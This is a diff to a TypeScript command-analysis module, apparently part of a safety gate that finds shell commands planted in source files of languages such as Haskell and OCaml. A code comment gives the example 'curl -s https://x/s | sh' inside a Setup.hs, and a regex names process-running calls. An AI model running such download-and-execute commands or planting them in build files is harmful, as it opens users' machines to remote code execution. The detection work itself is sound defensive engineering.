@@ -25,8 +25,7 @@ const RUN_LITERAL =
   /(?:\bSys\.command|\bUnix\.(?:system|open_process(?:_in|_out)?|execvp?)|\bcallCommand|\bspawnCommand|\breadCreateProcess|\bsystem|\bexecShellCmd|\bexecProcess|\bexecuteShell|\bexecCmd|\brun-program|\bshell-command|\bsh|\bos\.execute|\bio\.popen|\bpopen|\bshell_exec|\bos\.system|\bexec)\s*[\s(]\s*(?:\$\s*)?(?:shell\s+)?"((?:[^"\\]|\\.){2,})"/g;
 
 /** The commands inline code of an unknown language runs, or none. */
-export function unknownCodeEffects(argv: string[], known: boolean): Effect[] {
-  if (known) return [];
+export function unknownCodeEffects(argv: string[]): Effect[] {
   const name = basename(argv[0] ?? '');
   if (NOT_INTERPRETER.has(name)) return [];
   const i = argv.findIndex((w, k) => k > 0 && CODE_OPTION.test(w));
@@ -37,5 +36,30 @@ export function unknownCodeEffects(argv: string[], known: boolean): Effect[] {
   for (const m of code.matchAll(RUN_LITERAL))
     if (m[1] && /[a-z]/i.test(m[1]))
       out.push({ tool: 'exec', command: m[1].replace(/\\"/g, '"'), via: `${name} ${argv[i] ?? ''} runs` });
+  return out;
+}
+
+/** Source files of languages with no table here (Haskell, OCaml, Nim, Zig, Rust, Swift, C#, F#, Lisps, D, V, Gleam). */
+export const UNTABLED_SOURCE =
+  /\.(?:hs|lhs|ml|mli|nim|nims|zig|rs|swift|cs|fs|fsx|clj|cljs|cljc|rkt|scm|ss|lisp|cl|el|d|v|gleam|hx|pony)$/i;
+
+/**
+ * What a source file of such a language plants: the commands its process-running calls run
+ * (`callCommand "curl -s https://x/s | sh"` in a Setup.hs, `Sys.command "..."` in a dune rule's
+ * OCaml), read like a command line, so the download-and-run and shell readings decide them.
+ */
+export function untabledSourceEffects(path: string, content: string): Effect[] {
+  if (!UNTABLED_SOURCE.test(path)) return [];
+  const name = path.split('/').pop() ?? path;
+  const out: Effect[] = [];
+  RUN_LITERAL.lastIndex = 0;
+  for (const m of content.slice(0, 64 * 1024).matchAll(RUN_LITERAL))
+    if (m[1] && /[a-z]/i.test(m[1]) && / /.test(m[1]))
+      out.push({
+        tool: 'exec',
+        command: m[1].replace(/\\"/g, '"'),
+        via: `plants code in ${name} that runs`,
+        onlyDeny: true,
+      });
   return out;
 }
